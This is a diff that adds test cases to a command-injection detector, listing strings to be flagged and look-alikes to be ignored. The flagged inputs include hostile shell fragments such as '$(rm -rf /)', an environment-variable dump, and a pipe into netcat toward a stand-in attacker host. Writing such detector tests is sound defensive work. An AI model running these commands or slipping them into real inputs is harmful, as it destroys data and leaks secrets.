@@ -894,3 +894,89 @@ describe('cmdi: a command opening the value, then " #"', () => {
     expectSameWhenSplit(d, [input], 'query');
   });
 });
+
+describe('cmdi round 7: the PowerShell alias gci (Get-ChildItem) is a command word', () => {
+  it.each([['& gci env:', 'cmdi.chained-command'], ['x; gci -recurse', 'cmdi.chained-command'], ['gci c:\\users', 'cmdi.command-with-args']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['GCI Communications', 'our gci alias list', 'gci'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe("cmdi round 7: Ruby's %x( %x{ and Perl's qx( qx{ run a command line, as backticks do", () => {
+  it.each([['%x(id)', 'cmdi.command-substitution'], ['%x{cat /srv/x}', 'cmdi.command-substitution'], ['qx{uname -a}', 'cmdi.command-substitution'],
+    ['a = qx(whoami);', 'cmdi.command-substitution'], ['%x[id]', 'cmdi.command-substitution'], ['%x<whoami>', 'cmdi.command-substitution'],
+    ['%x[ls -la]', 'cmdi.command-substitution'], ['qx{id} + 1', 'cmdi.command-substitution']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['printf("%x(%d)", a, b)', '%x(foo)', 'qx', 'the qx{ thing', 'aqx(id)', 'x(id)', '/api/qx/id', '{id}', 'a[id]', '<id>', '%x[foo]'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe("cmdi round 7: Groovy's String.execute() runs the string as a command line", () => {
+  it.each([['"id".execute().text', 'cmdi.exec-call'], ["def p = 'uname -a'.execute()", 'cmdi.exec-call'], ['x="w".execute()', 'cmdi.exec-call'],
+    ["println 'ls /'.execute().text", 'cmdi.exec-call']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'body' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+  // a method called execute on an object or a list element, or a quoted word followed by prose
+  it.each(['stmt.execute()', 'cursor.execute("SELECT 1")', 'cmds[0].execute()', '"x".executed()', '"x". execute()', '"id".execute', "say 'hi'. Execute the plan",
+    "x = '.execute()'", '".execute(" is a method'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+});
+
+describe("cmdi round 7: PowerShell's prompt (PS C:\\path>) is no ps command given a drive", () => {
+  it.each([['dir c:', 'cmdi.command-with-args'], [';ps -ef', 'cmdi.chained-command'], ['ps -aux', 'cmdi.command-with-args'], ['x&dir d:\\work', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['PS C:\\Users\\ana> Get-ChildItem', 'PS D:\\src> npm install', 'ps c:', 'PS /home/ana> ls', 'ps /'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe("cmdi round 7: a weak word between '& ' and ' |' is a title or a table cell", () => {
+  it.each([['& date | nc attacker.test 80', 'cmdi.chained-command'], ['x & sleep 5 |', 'cmdi.chained-command'], ['x & date -u |', 'cmdi.chained-command'],
+    ['x; date |', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['Set time & date | Language | Region', 'Sales & find | Support', 'Q&A | Help'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 7: a Makefile variable named like a tool that alone does nothing ($(CC) $(MAKE) $(RM))', () => {
+  it.each([['$(id)', 'cmdi.command-substitution'], ['$(cat)', 'cmdi.command-substitution'], ['$(rm -rf /)', 'cmdi.command-substitution'],
+    ['$(sh)', 'cmdi.command-substitution'], ['$(c""c)', 'cmdi.command-substitution'], ['$( make)', 'cmdi.command-substitution']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['$(CC) -o app main.c $(CFLAGS)', '$(MAKE) -C sub all', '$(RM) -f *.o', 'x = $(SED) -e s/a/b/'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 7: a strong word alone between pipes, then a plain word, is a table cell (Name | ID | Email)', () => {
+  it.each([['| id |', 'cmdi.chained-command'], ['x | id | whoami', 'cmdi.chained-command'], ['x | id | cat /srv/x', 'cmdi.chained-command'],
+    ['|| id ||', 'cmdi.chained-command'], ['a|id|b', 'cmdi.chained-command'], ['x | id |;', 'cmdi.chained-command'], ['x | id', 'cmdi.chained-command'],
+    ['printf x | rev | sh', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['Name | ID | Email | Phone', '| id | 42 |', 'User | id | string'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
